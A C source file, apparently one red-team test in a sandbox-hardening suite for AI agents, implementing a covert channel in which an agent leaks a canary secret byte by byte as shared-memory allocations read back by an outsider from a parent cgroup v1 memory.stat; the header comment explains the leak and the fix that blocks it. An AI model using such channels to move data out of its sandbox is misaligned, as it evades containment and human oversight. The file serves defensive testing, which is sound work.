// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* cgroup_v1_parent_memstat - the canary's bytes as shmem charged to the agent's own v1 memory
 * cgroup, read in its PARENT (red team, after stop 33's run_cgv1.c): `mncctl run` now gives the
 * agent a 0700 cgroup `mnc-<agent>.<pid>` under the launcher's cgroup in every v1 hierarchy, but
 * v1 memory counters are hierarchical (use_hierarchy is always 1), and the launcher's own memory
 * cgroup (here memory:/process_api/<id>, which the orchestrator and so the launcher are in) keeps
 * `memory.stat` 0444 in a 0755 directory: `total_shmem` there is the sum over the subtree, the
 * agent's included. Nothing else in the launcher's cgroup uses shmem, so the value is the agent's.
 * The agent, for each byte of the canary, makes a memfd of byte * 2 MiB, touches every page (the
 * charge goes to the agent's memcg, and so to every ancestor's total), says `sync bN`, and closes
 * it after the orchestrator answered.
 * Verifier: at each sync, uid 65534 reads `total_shmem` from memory.stat of the orchestrator's own
 * memory cgroup and decodes round((now - base) / 2 MiB) as one byte.
 * Blocks it: the agent's v1 cgroups now sit under a 0700 twin of the v2 tree at the top of each
 * v1 hierarchy (user/mncctl/run_cgv1.h), not under the launcher's cgroup: the launcher's
 * total_shmem no longer counts the agent's memfds, and no cgroup outsiders can read does, but
 * the root's (host-wide, as /proc/meminfo's Shmem: the "memory load" covert row of
 * docs/threat-model.md). */
#include <fcntl.h>
#include <time.h>
#include <sys/mman.h>
#include <sys/stat.h>

#include "atk.h"

#define UNIT (2L << 20)
#define NB 14

static int agent(struct atk_ctx *c)
{
    atk_sync(c, "base");
    size_t n = strlen(c->secret);
    if (n > NB)
        n = NB;
    struct timespec w0, w1;
    clock_gettime(CLOCK_MONOTONIC, &w0);
    for (size_t i = 0; i < n; i++) {
        unsigned char b = (unsigned char)c->secret[i];
        long len = (long)b * UNIT;
        int fd = memfd_create("x", MFD_CLOEXEC);
        if (fd < 0) {
            atk_try(c, "memfd_create", -1);
            return 0;
        }
        if (len > 0) {
            if (ftruncate(fd, len) < 0) {
                atk_try(c, "ftruncate", -1);
                return 0;
            }
            char *p = mmap(NULL, (size_t)len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
            if (p == MAP_FAILED) {
                atk_try(c, "mmap", -1);
                return 0;
            }
            for (long o = 0; o < len; o += 4096)
                p[o] = 1;
            munmap(p, (size_t)len);
        }
        char tag[16];
        snprintf(tag, sizeof(tag), "b%zu", i);
        atk_sync(c, tag);
        close(fd);
    }
    clock_gettime(CLOCK_MONOTONIC, &w1);
    atk_note(c, "bytes sent: %zu in %.1f ms (syncs included)", n,
             (w1.tv_sec - w0.tv_sec) * 1e3 + (w1.tv_nsec - w0.tv_nsec) / 1e6);
    return 0;
}

static char stat_path[600];

/* memory.stat of this process's cgroup in the v1 memory hierarchy */
static int v1_memstat(char *out, size_t n)
{
    FILE *f = fopen("/proc/self/cgroup", "re");
    char line[600];
    int rc = -1;
    while (f && fgets(line, sizeof(line), f)) {
        line[strcspn(line, "\n")] = 0;
        char *a = strchr(line, ':'), *b = a ? strchr(a + 1, ':') : NULL;
        if (!a || !b)
            continue;
        *b = 0;
        if (strcmp(a + 1, "memory") != 0)
            continue;
        snprintf(out, n, "/sys/fs/cgroup/memory%s/memory.stat", strcmp(b + 1, "/") == 0 ? "" : b + 1);
        rc = access(out, R_OK) == 0 ? 0 : -1;
    }
    if (f)
        fclose(f);
    return rc;
}

static int read_shmem(struct atk_ctx *c, char *out, size_t n)
{
    (void)c;
    FILE *f = fopen(stat_path, "re");
    char k[64];
    long long v, r = -1;
    while (f && fscanf(f, "%63s %lld", k, &v) == 2)
        if (strcmp(k, "total_shmem") == 0) {
            r = v;
            break;
        }
    if (f)
        fclose(f);
    snprintf(out, n, "%lld", r);
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    char out[64];
    if (!stat_path[0] && v1_memstat(stat_path, sizeof(stat_path)) < 0) {
        atk_note(c, "no cgroup v1 memory hierarchy on this host");
        stat_path[0] = 0;
        return;
    }
    if (atk_as_uid(c, ATK_NOBODY, read_shmem, out, sizeof(out)) < 0)
        return;
    long long now = atoll(out);
    if (now < 0) {
        c->slot[2] = 1;
        return;
    }
    if (strcmp(tag, "base") == 0) {
        c->slot[0] = (long)now;
        c->slot[1] = 0;
        return;
    }
    int i = atoi(tag + 1);
    if (tag[0] != 'b' || i < 0 || i >= NB)
        return;
    long long d = now - c->slot[0];
    long long v = (d + UNIT / 2) / UNIT;
    static char got[NB + 1];
    got[i] = (v >= 0 && v <= 255) ? (char)v : '?';
    if (i == (int)strlen(c->canary) - 1 || i == NB - 1) {
        got[i + 1] = 0;
        if (strcmp(got, c->canary) == 0)
            atk_evidence(c,
                         "uid 65534 decoded the canary byte by byte from total_shmem in %s (the launcher's cgroup v1 "
                         "memory.stat, hierarchical over the agent's 0700 cgroup)",
                         stat_path);
        else
            atk_note(c, "decoded %s", got);
    }
}

static const struct atk A = {
    "cgroup_v1_parent_memstat",
    "shmem bytes in the launcher's (parent) cgroup v1 memory.stat (hybrid hosts; world-readable, hierarchical)",
    0,
    NULL,
    agent,
    on_sync,
    NULL,
    NULL};
ATK_MAIN(A)
